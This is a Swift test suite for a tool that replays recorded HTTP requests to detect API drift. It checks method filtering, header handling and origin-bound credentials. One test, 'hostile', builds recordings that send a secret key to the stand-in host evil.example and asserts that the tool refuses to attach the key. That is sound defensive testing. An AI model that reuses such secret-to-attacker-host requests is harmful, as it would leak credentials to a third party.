import Basics
import FixtureRecording
import Fixtures
import Foundation
import HTTPMiddleware
import HTTPModel
import ScriptRuntime
import TestFiles
import Testing

@Suite("drift: what is sent again")
struct DriftSurveyTests {
    private func report(
        of exchanges: [Exchange], _ adjust: (inout DriftSurvey) throws -> Void = { _ in }
    ) async throws -> (DriftReport, [Request]) {
        let folder = try TemporaryFolder()
        let recording = Recording(FolderPlace(folder.path))
        recording.keep(imported: exchanges) { _, event in
            if case .refused(let reason) = event { Issue.record("\(reason)") }
        }
        let (sent, stopping) = (Sent(), Sent())
        var survey = DriftSurvey(
            of: try FixtureFolder(FolderPlace(folder.path)), over: DriftTransports(following: sent, stopping: stopping))
        try adjust(&survey)
        let report = try await survey.report()
        return (report, sent.requests.withLock { $0 } + stopping.requests.withLock { $0 })
    }

    private func exchange(
        _ method: HTTPModel.Method, _ url: String, _ headers: [String] = [], base: String? = nil, secrets: [String] = []
    ) -> Exchange {
        let fields = HeaderFields(headers.compactMap { HeaderField(line: Array($0.utf8)) })
        return Exchange(
            request: RecordedRequest(method, url, headers: fields),
            response: RecordedResponse(
                status: Status(200), body: method == .head ? Data() : Data("[]".utf8), url: url),
            base: base, secrets: secrets)
    }

    @Test("only requests that change nothing are sent again, unless all are asked for")
    func methods() async throws {
        let exchanges = [
            exchange(.get, "https://h/a"), exchange(.head, "https://h/b"), exchange(.delete, "https://h/c"),
        ]
        let (report, sent) = try await report(of: exchanges)
        #expect(sent.map(\.method) == [.get, .head])
        let rest = report.entries.filter { $0.finding != .same }
        #expect(rest.map { "\($0.name)  \($0.request)" } == ["delete-c  DELETE https://h/c"] as [String])
        #expect(rest.map(\.finding) == [.skipped(.mayChange(.delete))])
        #expect(report.summary == "2 recordings sent again, nothing drifted; 1 not sent")
        let (_, all) = try await self.report(of: exchanges) { $0.methods = .all }
        #expect(Set(all.map(\.method)) == [.get, .head, .delete])
    }

    @Test("a request goes to the base of who asks, with the key of who asks and the headers that were recorded")
    func keys() async throws {
        let recorded = exchange(
            .get, "https://staging.h/v1/a?k={{secret:api_key}}&p=1",
            [
                "Accept: text/csv", "X-API-Key: {{secret:KEY}}", "X-Other: {{secret:OTHER}}", "Cookie: a={{secret:s}}",
                "Host: x",
            ],
            base: "https://staging.h/v1/", secrets: ["KEY", "OTHER", "api_key", "s"])
        let base = try BaseURL("https://live.h/v2/")
        let key = SecretText(Secret("KEY", "live-key", from: .prompt))
        let (report, sent) = try await report(of: [recorded]) { survey in
            survey.base = base
            survey.credentials = Credentials(for: base.origin, [.header("X-API-Key", key), .query("k", key)])
            survey.secrets = ["OTHER": Secret("OTHER", "o ther", from: .prompt)]
        }
        #expect(report.entries.map(\.finding) == [.same])
        let request = try #require(sent.first)
        #expect(request.url.absoluteString == "https://live.h/v2/a?k=&p=1")
        #expect(
            request.headers.map { String(decoding: $0.line, as: UTF8.self) } == ["Accept: text/csv", "X-Other: o ther"]
                as [String])
        #expect(request.credentials?.keys.count == 2 && request.secrets.map(\.name) == ["OTHER"] as [String])
    }

    @Test("a request is asked with the lines that were recorded, but for those that the network makes")
    func asRecorded() async throws {
        let lines = [
            "If-None-Match: \"1\"", "If-Modified-Since: Thu", "Range: bytes=0-9", "Accept: text/csv",
            "Accept-Language: de", "Prefer: a", "User-Agent: App/1", "Accept-Encoding: identity",
        ]
        let made = [
            "Host: h", "Connection: close", "Content-Length: 0", "Accept-Encoding: zstd", "User-Agent: sonde/0",
        ]
        let cookies = "Cookie: b={{secret:s}}; c={{secret:t}}"
        let (report, sent) = try await report(
            of: [exchange(.get, "https://h/a", lines + made + [cookies], secrets: ["s", "t"])]
        ) { survey in
            survey.base = try BaseURL("https://h/")
            survey.secrets = ["t": Secret("t", "tea", from: .prompt)]
        }
        #expect(report.entries.map(\.finding) == [.same])
        let headers = try #require(sent.first).headers.map { String(decoding: $0.line, as: UTF8.self) }
        #expect(headers == lines + ["Cookie: c=tea"])
    }

    @Test("what was answered with a redirect is asked where none is followed")
    func stopping() async throws {
        var redirected = exchange(.get, "https://h/a")
        redirected.response.status = Status(302)
        redirected.response.body = Data()
        let (report, _) = try await report(of: [redirected, exchange(.get, "https://h/b")])
        #expect(report.entries.map(\.finding) == [.changed([.status(302, now: 200)]), .same])
    }

    @Test("nothing asked is not an answer, and a recording that cannot be read does not stop the others")
    func nothingAsked() async throws {
        let (report, sent) = try await report(of: [
            exchange(.get, "https://h/a?k={{secret:KEY}}", secrets: ["KEY"]), exchange(.post, "https://h/b"),
        ])
        #expect(sent.isEmpty && !report.hasResponses)
        #expect(report.summary == "2 recordings could not be compared; 2 not sent")
        #expect(Set(report.obstacles) == [.secret("KEY", base: "https://h"), .mayChange(.post)])
        #expect(DriftReport().summary == "there are no recordings to send again")
    }

    @Test(
        "the base that is named for a secret is the one that was recorded, with its path",
        arguments: [
            ("https://h/v1/", nil, "https://h/v1/"), ("https://h/v1", nil, "https://h/v1"), (nil, nil, "https://h"),
            ("https://other/v1/", nil, "https://h"), ("https://h/v1/", "https://live.h/v2/", "https://live.h/v2/"),
        ] as [(String?, String?, String)])
    func homes(recorded: String?, given: String?, named: String) async throws {
        let asked = exchange(.get, "https://h/v1/a?k={{secret:KEY}}", base: recorded, secrets: ["KEY"])
        let (report, _) = try await report(of: [asked]) { survey in
            survey.base = try given.map { try BaseURL($0) }
        }
        #expect(report.obstacles == [.secret("KEY", base: named)])
    }

    @Test("a folder that names another server is given no secret of this base")
    func hostile() async throws {
        let exchanges = [
            exchange(.get, "https://evil.example/?k={{secret:KEY}}", base: "https://api.h/", secrets: ["KEY"]),
            exchange(
                .get, "https://evil.example/b", ["Authorization: {{secret:KEY}}"], base: "https://api.h/",
                secrets: ["KEY"]),
            exchange(.get, "https://evil.example/c", base: "https://api.h/"),
        ]
        let base = try BaseURL("https://live.h/")
        let key = Secret("KEY", "live-key", from: .prompt)
        let (report, sent) = try await report(of: exchanges) { survey in
            survey.base = base
            survey.credentials = Credentials(
                for: base.origin, [.bearer(SecretText(key)), .query("k", SecretText(key))])
            survey.secrets = ["KEY": key]
        }
        #expect(sent.map(\.url.absoluteString) == ["https://evil.example/c"] as [String])
        #expect(sent.allSatisfy { $0.credentials == nil && $0.secrets.isEmpty })
        let refusal = DriftReport.Entry.Finding.skipped(.secret("KEY", base: "https://evil.example"))
        #expect(report.entries.map(\.finding).count { $0 == refusal } == 2)
    }
}

/// Remembers what was sent, and answers with an empty list.
private final class Sent: Transport {
    let requests = Lock<[Request]>([])

    func send(_ request: Request, in context: ExchangeContext) async throws(TransportError) -> Response {
        requests.withLock { $0.append(request) }
        return Response(
            status: Status(200), body: .bytes(request.method == .head ? Data() : Data("[]".utf8)), url: request.url)
    }
}
